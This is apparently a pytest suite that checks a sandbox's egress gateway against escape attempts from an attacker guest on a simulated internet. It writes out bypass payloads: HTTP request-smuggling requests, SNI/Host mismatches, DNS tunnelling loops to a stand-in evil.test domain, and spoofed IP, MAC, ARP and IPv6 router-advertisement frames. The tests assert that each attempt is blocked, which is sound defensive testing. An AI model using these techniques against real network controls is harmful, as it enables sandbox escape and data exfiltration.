# SPDX-License-Identifier: Apache-2.0
"""Category 3: egress bypasses. Every way out of the attacker guest that the
policy does not allow, each its own attempt: by address, by a name the
gateway reads wrong, by a protocol it does not read (UDP, ICMP, IPv6, raw
frames), through DNS, through HTTP parsing differences.

Containment is read from outside the guest: the sniffer on the fake
internet's link (a SYN, a datagram, an ICMP echo, an IPv6 packet that got
out), the fake internet's own logs (requests, handshakes, DNS queries), the
sandbox's dropped-packet counter and its network namespace."""
import json
import subprocess

import pytest

import secutil as su
from secutil import attempt, fn

GET = "GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


@pytest.fixture
def sid(api, attacker):
    su.set_policy(api, attacker["id"], allow=[fn.WWW_ALLOWED])
    yield attacker["id"]
    su.set_policy(api, attacker["id"], allow=[fn.WWW_ALLOWED])


def no_other(watch, m, fakenet):
    """Nothing reached www.other.test's address, in any way."""
    assert not watch.syns(m, dst=fn.OTHER_IP), watch.syns(m, dst=fn.OTHER_IP)
    assert not fakenet.tcp_connections(fn.OTHER_IP)
    assert not [r for r in fakenet.http_requests() if fn.WWW_OTHER in (r.get("host") or "")]


# ------------------------------------------------------------------ by address and by name

def test_by_address(api, sid, watch, fakenet):
    with attempt("egress", "direct-ip-http", "plain HTTP to a non-allowed host's address"):
        m = watch.mark()
        (rc, st), = su.curls(api, sid, [f"http://{fn.OTHER_IP}/"])
        assert st == 403
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "direct-ip-https", "HTTPS to a non-allowed host's address (no SNI, IP literal)"):
        m = watch.mark()
        rs = su.probe_many(api, sid, [["tls", fn.OTHER_IP, 443, ""], ["tls", fn.OTHER_IP, 443, fn.OTHER_IP]])
        assert not any(r["handshake"] for r in rs), rs  # no SNI, and an IP literal as SNI
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "direct-ip-tcp", "TCP to a non-allowed host's open port (echo 7000)"):
        m = watch.mark()
        r = su.probe(api, sid, "tcp", fn.OTHER_IP, fn.TCP_ECHO_PORT, su.b64("ping"), "1")
        assert "ping" not in (r.get("reply") or ""), r
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "allowed-host-other-port", "an allowed host on ports the rule does not name (7000, 8443, 22)"):
        m = watch.mark()
        rs = su.probe_many(api, sid, [["tcp", fn.ALLOWED_IP, p, su.b64("ping"), "1"] for p in (7000, 8443, 22)])
        assert not any("ping" in (r.get("reply") or "") for r in rs), rs
        assert not any(r.get("reply", "").startswith("\x16") for r in rs), rs
        watch.nothing_left(m)

    with attempt("egress", "host-mismatch-http", "Host: www.other.test sent to the allowed host's address"):
        m = watch.mark()
        (rc, st), = su.curls(api, sid, [f"-H 'Host: {fn.WWW_OTHER}' http://{fn.ALLOWED_IP}/"])
        assert st == 403
        assert not fakenet.http_requests()
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "sni-other-to-allowed-ip", "SNI www.other.test sent to the allowed host's address"):
        m = watch.mark()
        r = su.probe(api, sid, "tls", fn.ALLOWED_IP, 443, fn.WWW_OTHER)
        assert r["handshake"] is False, r
        assert not fakenet.tls_handshakes()
        watch.nothing_left(m)

    with attempt("egress", "sni-allowed-to-other-ip", "SNI www.allowed.test sent to www.other.test's address"):
        m = watch.mark()
        r = su.probe(api, sid, "tls", fn.OTHER_IP, 443, fn.WWW_ALLOWED, fn.WWW_ALLOWED, "/", "1")
        assert r["status"] == 200 and f"address: {fn.ALLOWED_IP}" in r["reply"], r
        no_other(watch, m, fakenet)
        watch.nothing_left(m, allowed={(fn.ALLOWED_IP, 443)})

    # sub.example.test shares www.allowed.test's address and server, and has no
    # secret binding (www.allowed.test has one, so it is always intercepted).
    su.set_policy(api, sid, allow=[fn.SUB_EXAMPLE])
    with attempt("egress", "host-sni-mismatch-default", "SNI allowed, Host www.other.test inside TLS under the default policy (inspected since issue 17): 421, only the SNI's host is dialled"):
        m = watch.mark()
        r = su.probe(api, sid, "tls", fn.OTHER_IP, 443, fn.SUB_EXAMPLE, fn.WWW_OTHER, "/", "1")
        assert r.get("status") == 421, r
        assert not watch.syns(m, dst=fn.OTHER_IP) and not fakenet.tcp_connections(fn.OTHER_IP)
        assert all(q["local"][0] == fn.ALLOWED_IP for q in fakenet.http_requests()), fakenet.http_requests()
        watch.nothing_left(m, allowed={(fn.ALLOWED_IP, 443)})

    with attempt("egress", "host-sni-mismatch-inspect", "SNI allowed, Host www.other.test with \"tls\": \"inspect\""):
        su.set_policy(api, sid, allow=[fn.SUB_EXAMPLE], tls="inspect")
        m = watch.mark()
        r = su.probe(api, sid, "tls", fn.ALLOWED_IP, 443, fn.SUB_EXAMPLE, fn.WWW_OTHER, "/", "1")
        assert r.get("status") in (421, 403), r
        assert not fakenet.http_requests()
        no_other(watch, m, fakenet)
    su.set_policy(api, sid, allow=[fn.WWW_ALLOWED])


# ------------------------------------------------------------------ the ClientHello

def test_client_hello_tricks(api, sid, watch, fakenet):
    for name, what, args in (
            ("no-sni", "a TLS ClientHello without SNI to the allowed address", ["hello", fn.ALLOWED_IP, ""]),
            ("ech-extension", "a ClientHello with an allowed outer SNI and an Encrypted ClientHello extension",
             ["hello", fn.ALLOWED_IP, fn.WWW_ALLOWED, "ech"]),
            ("esni-extension", "a ClientHello with an allowed SNI and an ESNI extension",
             ["hello", fn.ALLOWED_IP, fn.WWW_ALLOWED, "esni"]),
            ("split-clienthello", "a non-allowed SNI in a ClientHello split over 64-byte records and 7-byte segments",
             ["hello", fn.OTHER_IP, fn.WWW_OTHER, "split-records", "7"]),
            ("duplicate-sni", "two server_name extensions: allowed first, www.other.test second",
             ["hello", fn.OTHER_IP, fn.WWW_ALLOWED, "plain", "0", fn.WWW_OTHER]),
            ("sni-two-names", "one server_name list with www.other.test and the allowed name",
             ["hello", fn.OTHER_IP, f"{fn.WWW_OTHER},{fn.WWW_ALLOWED}", "two-names"]),
            ("tls-on-port-80", "a ClientHello with an allowed SNI sent to port 80",
             ["probe-tls80"]),
            ("http-on-443", "plain HTTP with an allowed Host sent to port 443", ["probe-http443"])):
        with attempt("egress", name, what):
            m = watch.mark()
            if args[0] == "probe-tls80":
                code, out, err = su.sh(api, sid, "python3 -c \"import sys; sys.argv=['x','hello',"
                                                 f"'{fn.ALLOWED_IP}','{fn.WWW_ALLOWED}']; exec(open('/tmp/raw.py')"
                                                 ".read().replace('(ip, 443)', '(ip, 80)'))\"")
                r = json.loads(out.strip().splitlines()[-1])
                assert not (r["reply"] or "").startswith("16"), r  # a 400 from the gateway, or nothing
            elif args[0] == "probe-http443":
                r = su.probe(api, sid, "tcp", fn.ALLOWED_IP, 443, su.b64(GET.format(host=fn.WWW_ALLOWED)), "2")
                assert not r.get("status"), r
            else:
                r = su.raw(api, sid, *args)
                assert r["reply"] is None or not r["reply"].startswith("160303"), r  # no ServerHello
            no_other(watch, m, fakenet)
            if name not in ("duplicate-sni", "sni-two-names"):
                assert not fakenet.tls_handshakes(), fakenet.tls_handshakes()
                watch.nothing_left(m)
            else:  # at most the allowed name's host, never the other's
                assert not fakenet.tls_handshakes(fn.OTHER_IP)
                watch.nothing_left(m, allowed={(fn.ALLOWED_IP, 443)})


# ------------------------------------------------------------------ names

def test_name_tricks(api, sid, watch, fakenet):
    su.set_policy(api, sid, allow=["*.example.test"])
    for name, host, what in (
            ("wildcard-suffix", fn.EVIL_SUFFIX_EXAMPLE, "*.example.test allowed: example.test.evil.test"),
            ("wildcard-prefix", fn.EVIL_PREFIX_EXAMPLE, "*.example.test allowed: evilexample.test"),
            ("wildcard-apex", fn.EXAMPLE, "*.example.test allowed: the apex example.test")):
        with attempt("egress", name, what):
            m = watch.mark()
            ip = fn.ALLOWED_IP if host == fn.EXAMPLE else fn.OTHER_IP
            rs = su.curls(api, sid, [f"http://{host}/", f"--resolve {host}:80:{ip} http://{host}/",
                                     f"-k --resolve {host}:443:{ip} https://{host}/"])
            assert rs[0][0] == 6 and rs[1][1] == 403 and rs[2][1] == 0, rs
            assert host not in watch.dns_qnames()
            watch.nothing_left(m)

    su.set_policy(api, sid, allow=["*.allowed.test"], deny=[fn.API_ALLOWED])
    for name, spellings, what in (
            ("trailing-dot-deny", ["api.allowed.test.", "api.allowed.test.."],
             "a denied name with trailing dots (allow *.allowed.test, deny api.allowed.test)"),
            ("uppercase-deny", ["API.ALLOWED.TEST", "Api.Allowed.Test."], "a denied name in upper and mixed case"),
            ("idn-homograph", ["www.\u0430llowed.test", "xn--www-allowed-9hk.test", "api.allowed.test\u3002"],
             "IDN homographs and a full-width dot")):
        with attempt("egress", name, what):
            m = watch.mark()
            reqs = [["tcp", fn.ALLOWED_IP, 80, su.b64(GET.format(host=h).encode("utf-8")), "2"] for h in spellings]
            rs = su.probe_many(api, sid, reqs)
            assert all(r.get("status") in (400, 403) for r in rs), rs
            for h in spellings:  # the SNI as raw bytes (no client-side IDNA)
                r = su.raw(api, sid, "hello", fn.ALLOWED_IP, h)
                assert r["reply"] is None or not r["reply"].startswith("16"), (h, r)
            assert not fakenet.http_requests() and not fakenet.tls_handshakes()
            watch.nothing_left(m)

    su.set_policy(api, sid, allow=[fn.WWW_ALLOWED])
    with attempt("egress", "odd-ipv4-host", "Host as 0x7f.1, 2130706433, 0177.0.0.1, 0xa9fea9fe and other odd IPv4 spellings"):
        m = watch.mark()
        spellings = ["0x7f.1", "2130706433", "0177.0.0.1", "0x7f000001", "127.000.000.001", "0xa9.0xfe.0xa9.0xfe",
                     "2852039166", "3221226004", "0300.0000.0002.0024"]
        rs = su.probe_many(api, sid, [["tcp", fn.ALLOWED_IP, 80, su.b64(GET.format(host=h)), "2"] for h in spellings])
        assert all(r.get("status") in (400, 403) for r in rs), rs
        assert not fakenet.http_requests()
        watch.nothing_left(m)

    with attempt("egress", "host-port-mismatch", "Host www.allowed.test:8443, :443, userinfo and a second Host on port 80"):
        m = watch.mark()
        reqs = [GET.format(host=f"{fn.WWW_ALLOWED}:8443"), GET.format(host=f"{fn.WWW_ALLOWED}:443"),
                GET.format(host=f"{fn.WWW_OTHER}@{fn.WWW_ALLOWED}"),
                f"GET / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nHost: {fn.WWW_OTHER}\r\n\r\n",
                f"GET / HTTP/1.1\r\nHost: {fn.WWW_OTHER}\r\nHost: {fn.WWW_ALLOWED}\r\n\r\n"]
        rs = su.probe_many(api, sid, [["tcp", fn.OTHER_IP, 80, su.b64(q), "2"] for q in reqs])
        assert all(r.get("status") in (400, 403) for r in rs), rs
        assert not fakenet.http_requests()
        no_other(watch, m, fakenet)
        watch.nothing_left(m)


# ------------------------------------------------------------------ HTTP parsing

def test_http_parsing_tricks(api, sid, watch, fakenet):
    smuggled = f"GET /smuggled HTTP/1.1\r\nHost: {fn.WWW_OTHER}\r\n\r\n"
    cases = (
        ("smuggling-cl-te", "request smuggling: Content-Length and Transfer-Encoding: chunked",
         f"POST / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nContent-Length: {5 + len(smuggled)}\r\n"
         f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}", (400,)),
        ("smuggling-te-list", "request smuggling: Transfer-Encoding: chunked, identity",
         f"POST / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{smuggled}",
         (400, 501)),
        ("smuggling-te-space", "request smuggling: a space before the colon of Transfer-Encoding, with Content-Length",
         f"POST / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nContent-Length: {5 + len(smuggled)}\r\n"
         f"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{smuggled}", (400, 403)),
        ("smuggling-double-cl", "request smuggling: two different Content-Lengths",
         f"POST / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nContent-Length: 0\r\nContent-Length: {len(smuggled)}\r\n\r\n"
         f"{smuggled}", (400,)),
        ("smuggling-obs-fold", "a folded (obs-fold) Host continuation line",
         f"GET / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\n {fn.WWW_OTHER}\r\n\r\n", (400, 403)),
        ("absolute-uri", "an absolute-form request target naming www.other.test",
         f"GET http://{fn.WWW_OTHER}/ HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\n\r\n", (400, 403, 200)),
        ("connect-method", "CONNECT www.other.test:443 on port 80",
         f"CONNECT {fn.WWW_OTHER}:443 HTTP/1.1\r\nHost: {fn.WWW_OTHER}:443\r\n\r\n", (400, 403, 405)),
        ("websocket-upgrade", "a WebSocket upgrade to the allowed host",
         f"GET / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n", (403,)),
        ("h2c-upgrade", "an h2c upgrade and an HTTP/2 prior-knowledge preface",
         f"GET / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
         "Connection: Upgrade, HTTP2-Settings\r\n\r\n", (403,)),
        ("http09-request", "an HTTP/0.9 request line without a Host",
         "GET /\r\n\r\n", (400, 403, None)),
    )
    for name, what, req, ok in cases:
        with attempt("egress", name, what):
            m = watch.mark()
            r = su.probe(api, sid, "tcp", fn.ALLOWED_IP, 80, su.b64(req), "3")
            assert r.get("status") in ok, r
            reqs = fakenet.http_requests()
            assert not [q for q in reqs if fn.WWW_OTHER in (q.get("host") or "") or "smuggled" in q["path"]
                        or q["method"] == "CONNECT"], reqs
            if name == "absolute-uri" and r.get("status") == 200:
                assert f"hello from {fn.WWW_ALLOWED}" in r["reply"], r
            no_other(watch, m, fakenet)
            watch.nothing_left(m, allowed={(fn.ALLOWED_IP, 80)})
            if name == "h2c-upgrade":
                r = su.probe(api, sid, "tcp", fn.ALLOWED_IP, 80, su.b64("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), "2")
                assert r.get("status") in (None, 400, 403, 505), r
                assert not fakenet.http_requests()

    with attempt("egress", "keepalive-second-host", "a second request for www.other.test on a kept-alive plain HTTP connection"):
        m = watch.mark()
        req = GET.format(host=fn.WWW_ALLOWED).replace("Connection: close\r\n", "") + GET.format(host=fn.WWW_OTHER)
        r = su.probe(api, sid, "tcp", fn.ALLOWED_IP, 80, su.b64(req), "3")
        assert r["status"] == 200 and "HTTP/1.1 421" in r["reply"], r
        hosts = [q["host"] for q in fakenet.http_requests()]
        assert hosts == [fn.WWW_ALLOWED], hosts
        no_other(watch, m, fakenet)

    with attempt("egress", "trace-method", "TRACE to the allowed host (would echo every header back)"):
        m = watch.mark()
        r = su.probe(api, sid, "tcp", fn.ALLOWED_IP, 80,
                     su.b64(f"TRACE / HTTP/1.1\r\nHost: {fn.WWW_ALLOWED}\r\n\r\n"), "2")
        assert r["status"] == 405, r
        assert not fakenet.http_requests()


# ------------------------------------------------------------------ not TCP

def test_udp_icmp_ipv6(api, sid, watch, fakenet):
    su.set_policy(api, sid, allow=[fn.WWW_ALLOWED, "203.0.113.0/24:443", "203.0.113.0/24:9000"])

    def no_udp(m):
        out = [r for r in watch.internet(m) if r.get("kind") != "syn"]
        assert not out, out
        assert not fakenet.udp_datagrams()

    with attempt("egress", "udp-quic-443", "UDP (QUIC) to 443 of a host an IP rule allows on 443"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        r = su.probe(api, sid, "udp", fn.ECHO_IP, 443, su.b64("\xc0airlock-sec-quic"))
        assert r["reply"] is None, r
        no_udp(m)
        assert su.dropped(api, sid) > d0

    with attempt("egress", "udp-other-ports", "UDP to 9000 (allowed for TCP), 123 (NTP), 1194 (VPN), 51820 (WireGuard)"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        rs = su.probe_many(api, sid, [["udp", fn.ECHO_IP, p, su.b64("airlock-sec-udp"), "1"]
                                      for p in (9000, 123, 1194, 51820)])
        assert all(r["reply"] is None for r in rs), rs
        no_udp(m)
        assert su.dropped(api, sid) >= d0 + 4

    with attempt("egress", "icmp-echo", "ICMP echo to the echo host and the allowed host"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        before = fakenet.snmp("Icmp", "InEchos")
        for ip in (fn.ECHO_IP, fn.ALLOWED_IP):
            r = su.raw(api, sid, "icmp", ip)
            assert r["reply"] is None, r
        assert fakenet.snmp("Icmp", "InEchos") == before
        no_udp(m)
        assert su.dropped(api, sid) >= d0 + 6

    with attempt("egress", "ipv6-raw-frames", "IPv6 UDP and TCP frames written to eth0 (no address or route needed)"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        assert su.raw(api, sid, "frames", "ipv6") == {"sent": 4}
        assert not [r for r in watch.internet(m) if r.get("kind") == "ipv6"]
        no_udp(m)
        assert su.dropped(api, sid) >= d0 + 4


# ------------------------------------------------------------------ DNS

def test_dns(api, sid, watch, fakenet):
    def upstream(m):
        return [r for r in watch.packets(m) if r.get("kind") == "udp" and r["dst"] != fn.DNS_IP]

    with attempt("egress", "dns-other-resolvers", "DNS to 8.8.8.8, 1.1.1.1 and the test resolver directly (UDP and TCP)"):
        m = watch.mark()
        extras = ("@8.8.8.8", "@1.1.1.1 +tcp", f"@{fn.DNS_IP}", f"@{fn.DNS_IP} +tcp")
        outs = su.digs(api, sid, [f"{e} {fn.WWW_OTHER} A" for e in extras] + [f"@9.9.9.9 {fn.WWW_ALLOWED} A"])
        assert all("status: NXDOMAIN" in o for o in outs[:4]), outs
        assert fn.ALLOWED_IP in outs[4], outs[4]  # answered, by the gateway
        assert fn.WWW_OTHER not in watch.dns_qnames()
        assert not upstream(m), upstream(m)
        assert not watch.syns(m, dport=53)
        watch.nothing_left(m)

    with attempt("egress", "dns-txt", "a TXT query for an allowed name (the test server has a TXT record)"):
        m = watch.mark()
        out, = su.digs(api, sid, [f"{fn.WWW_ALLOWED} TXT"])
        assert "status: REFUSED" in out and "airlock-fakenet" not in out, out
        assert not [q for q in fakenet.dns_queries() if q["type"] == "TXT"]
        watch.nothing_left(m)

    with attempt("egress", "dns-other-types", "ANY, MX, SRV, NULL, CNAME and AXFR queries"):
        m = watch.mark()
        types = ("ANY", "MX", "SRV", "NULL", "CNAME")
        outs = su.digs(api, sid, [f"{fn.WWW_ALLOWED} {t}" for t in types] + ["@10.0.2.2 allowed.test AXFR"])
        assert all("status: REFUSED" in o or "status: NXDOMAIN" in o for o in outs[:5]), outs
        assert "airlock-fakenet" not in outs[5] and fn.ALLOWED_IP not in outs[5], outs[5]
        assert not [q for q in fakenet.dns_queries() if q["type"] not in ("A", "AAAA")]
        watch.nothing_left(m)

    with attempt("egress", "dns-long-labels", "data in three 63-byte labels under a non-allowed domain"):
        m = watch.mark()
        label = ("7365637265742d646174612d" * 6)[:63]
        out, = su.digs(api, sid, [".".join([label] * 3) + ".evil.test A"])
        assert "status: NXDOMAIN" in out, out
        assert not [q for q in watch.dns_qnames() if "evil" in q], watch.dns_qnames()
        watch.nothing_left(m)

    with attempt("egress", "dns-tunnel-burst", "16 queries carrying random data under a non-allowed domain, UDP and TCP"):
        m = watch.mark()
        su.sh(api, sid, "for i in $(seq 1 8); do d=$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n'); "
                        "dig +time=1 +tries=1 +short c$i-$d.tunnel.evil.test A; "
                        "dig +tcp +time=1 +tries=1 +short t$i-$d.tunnel.evil.test AAAA; done >/dev/null; true",
              timeout=180)
        assert not [q for q in watch.dns_qnames() if "tunnel" in q], watch.dns_qnames()
        watch.nothing_left(m)

    with attempt("egress", "dns-under-allowed-name", "data as a label under the allowed exact name (x.www.allowed.test)"):
        m = watch.mark()
        outs = su.digs(api, sid, ["exfil-0123.www.allowed.test A", "exfil-4567.allowed.test A"])
        assert all("status: NXDOMAIN" in o for o in outs), outs
        assert not [q for q in watch.dns_qnames() if "exfil" in q], watch.dns_qnames()
        watch.nothing_left(m)

    with attempt("egress", "dot-853", "DNS over TLS (port 853) to the test resolver and to 1.1.1.1"):
        m = watch.mark()
        rs = su.probe_many(api, sid, [["tls", ip, 853, "cloudflare-dns.com"] for ip in (fn.DNS_IP, "1.1.1.1")])
        assert not any(r["handshake"] for r in rs), rs
        assert not watch.syns(m, dport=853)
        watch.nothing_left(m)

    with attempt("egress", "doh-non-allowed", "DNS over HTTPS to a non-allowed resolver name (dns.google, cloudflare-dns.com)"):
        m = watch.mark()
        rs = su.curls(api, sid, [f"--resolve dns.google:443:{fn.OTHER_IP} 'https://dns.google/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'",
                                 f"-k --resolve cloudflare-dns.com:443:{fn.ALLOWED_IP} https://cloudflare-dns.com/dns-query"])
        assert all(st == 0 for _, st in rs), rs
        assert not fakenet.tls_handshakes()
        watch.nothing_left(m)


# ------------------------------------------------------------------ raw sockets and the tap

def test_raw_frames_on_the_tap(api, sid, watch, fakenet):
    ns = su.netns_of(sid)

    def neigh():
        r = subprocess.run(ns + ["ip", "-4", "neigh", "show"], capture_output=True, text=True, timeout=10)
        assert r.returncode == 0, r.stderr
        return r.stdout

    with attempt("egress", "spoofed-source-ip", "IPv4 UDP and TCP SYNs with spoofed sources (an internet host, 10.0.2.2, 10.0.2.99)"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        assert su.raw(api, sid, "frames", "spoof-ip", f"{fn.ALLOWED_IP},10.0.2.2,10.0.2.99,0.0.0.0") == {"sent": 8}
        watch.nothing_left(m)
        no_other(watch, m, fakenet)
        assert su.dropped(api, sid) >= d0 + 8

    with attempt("egress", "spoofed-source-mac", "frames from the right IP with other source MACs (incl. the gateway's)"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        assert su.raw(api, sid, "frames", "spoof-mac") == {"sent": 6}
        watch.nothing_left(m)
        assert su.dropped(api, sid) >= d0 + 6

    with attempt("egress", "raw-socket-syn", "hand-made TCP SYNs from a raw IPv4 socket to a non-allowed host"):
        m = watch.mark()
        assert su.raw(api, sid, "frames", "raw-syn") == {"sent": 3}
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "ip-fragments", "a TCP SYN to a non-allowed host in two IP fragments (ports first, flags second)"):
        m = watch.mark()
        assert su.raw(api, sid, "frames", "fragments") == {"sent": 2}
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "other-ip-protocols", "GRE, SCTP, ESP and IPv6-in-IPv4 packets to a non-allowed host"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        assert su.raw(api, sid, "frames", "protocols") == {"sent": 4}
        watch.nothing_left(m)
        assert su.dropped(api, sid) >= d0 + 4

    with attempt("egress", "vlan-tagged-frames", "802.1Q-tagged frames (VLAN 0, 1, 100) with UDP and a TCP SYN inside"):
        m = watch.mark()
        assert su.raw(api, sid, "frames", "vlan") == {"sent": 6}
        no_other(watch, m, fakenet)
        watch.nothing_left(m)

    with attempt("egress", "arp-claim-gateway", "gratuitous ARP claiming 10.0.2.2 (the gateway)"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        before = neigh()
        assert su.raw(api, sid, "frames", "arp", "10.0.2.2") == {"sent": 2}
        assert su.dropped(api, sid) >= d0 + 2
        assert neigh() == before, (before, neigh())
        watch.nothing_left(m)

    with attempt("egress", "arp-claim-others", "gratuitous ARP claiming 10.0.2.3, 10.0.2.1 and an internet address"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        assert su.raw(api, sid, "frames", "arp", f"10.0.2.3,10.0.2.1,{fn.OTHER_IP}") == {"sent": 6}
        assert su.dropped(api, sid) >= d0 + 6
        table = neigh()
        for ip in ("10.0.2.3 ", "10.0.2.1 ", fn.OTHER_IP):
            assert ip not in table, table
        watch.nothing_left(m)

    with attempt("egress", "ipv6-router-advertisement", "an IPv6 router advertisement (prefix 2001:db8:bad::/64) on the tap"):
        m, d0 = watch.mark(), su.dropped(api, sid)
        assert su.raw(api, sid, "frames", "ra") == {"sent": 3}
        assert su.dropped(api, sid) >= d0 + 3
        r = subprocess.run(ns + ["sh", "-c", "ip -6 addr show; ip -6 route show; "
                                             "cat /proc/sys/net/ipv6/conf/all/disable_ipv6"],
                           capture_output=True, text=True, timeout=10)
        assert "2001:db8:bad" not in r.stdout and "inet6" not in r.stdout, r.stdout
        assert not [x for x in watch.internet(m) if x.get("kind") == "ipv6"]
        watch.nothing_left(m)
